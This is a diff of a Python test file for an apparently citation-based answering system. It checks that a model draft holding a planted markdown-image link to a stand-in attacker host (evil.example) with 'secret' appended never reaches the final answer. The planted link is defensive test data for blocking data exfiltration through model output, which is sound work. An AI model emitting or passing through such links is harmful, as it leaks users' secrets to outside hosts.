@@ -221,8 +221,8 @@ def test_not_even_the_draft_on_the_screen_shows_a_planted_link(
 def test_a_true_quote_does_not_carry_a_link_through(session: Session) -> None:
     draft = chosen([1], f"The learning rate is 0.010, see ![it]({EVIL}secret).")
     answer = ask(session, question(0), models=models(QueueLLM(default=draft)))
-    assert "0.010" in answer.text
-    assert "evil.example" not in answer.text
+    assert answer.text == ask(session, question(0)).text  # the quote in place of the phrasing
+    assert answer.text == "AmberNet is trained with a learning rate of 0.010 on four graphics cards. [1]"
 
 
 def test_a_fence_cannot_be_closed_from_inside() -> None:
